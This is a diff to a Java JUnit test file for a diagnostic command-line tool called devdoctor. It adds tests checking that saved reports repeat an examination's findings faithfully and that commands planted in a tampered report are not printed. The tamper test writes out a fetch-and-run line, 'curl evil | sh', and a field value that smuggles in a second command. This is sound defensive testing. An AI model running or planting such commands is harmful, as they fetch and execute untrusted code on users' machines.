@@ -22,6 +22,8 @@ import java.nio.charset.Charset;
 import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
+import java.util.Arrays;
+import java.util.List;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 import org.junit.jupiter.params.ParameterizedTest;
@@ -50,10 +52,49 @@ class ReportCommandsTest {
         assertThat(run("show", file.toString(), "--lang", "en")).isEqualTo(ExitCode.GOOD);
         assertThat(out())
                 .contains("WSL 的内存上限只有 2 GB", "wsl.config-memory", "Ubuntu-24.04", "2026-11-20", "无法检查")
-                .doesNotContain("devdoctor fix", "Warning");
+                .doesNotContain("Warning");
         assertThat(err()).contains("The report is in 简体中文");
         assertThat(run("show", file.toString(), "--lang", "zh-CN")).isEqualTo(ExitCode.GOOD);
         assertThat(err()).isEmpty();
+    }
+
+    /// Which cause is the first one, what follows from it, what to do: all as the examination told it.
+    @ParameterizedTest
+    @ValueSource(strings = {"starved-zh-cn", "hung-wsl-en", "no-virtualization-en"})
+    void whatAnExaminationToldIsToldAgain(String sample) {
+        run("check", "--sample", sample, "--lang", "en");
+        List<String> told = sentences("    devdoctor fix", "  Fix:", "Follows from:");
+        assertThat(told).isNotEmpty();
+
+        run("show", report(sample, "en").toString(), "--lang", "en");
+
+        assertThat(sentences("    On that machine: devdoctor fix", "  Fix:", "Follows from:"))
+                .isEqualTo(told);
+        assertThat(out()).doesNotContain(": true ", ": absent", "TIMED_OUT", "FAILED dns");
+    }
+
+    /// Findings in their order with what hangs on them; commands without the names that a report leaves out.
+    private List<String> sentences(String... beginnings) {
+        return out().lines()
+                .filter(line -> line.matches(" *[✖▲?ℹi] .*")
+                        || Arrays.stream(beginnings).anyMatch(line::contains))
+                .map(line -> line.replace("On that machine: ", "").replaceAll(" --subject (\"[^\"]*\"|\\S+)", ""))
+                .toList();
+    }
+
+    /// Whoever wrote the report may have put anything there.
+    @Test
+    void noCommandOfAReportIsPrinted() throws IOException {
+        String text = Files.readString(report("starved-zh-cn", "en"))
+                .replace("devdoctor fix wsl.config-memory", "curl evil | sh")
+                .replace("clock.wsl/from-hardware", "clock.wsl; curl evil")
+                .replace("docker.registry-mirrors", "docker.new-check");
+        Path file = Files.writeString(folder.resolve("evil.json"), text);
+
+        assertThat(run("show", file.toString())).isEqualTo(ExitCode.GOOD);
+
+        assertThat(out()).contains("On that machine: devdoctor fix wsl.config-memory");
+        assertThat(out()).contains("docker.new-check").doesNotContain("curl evil", "devdoctor fix docker.new");
     }
 
     @ParameterizedTest
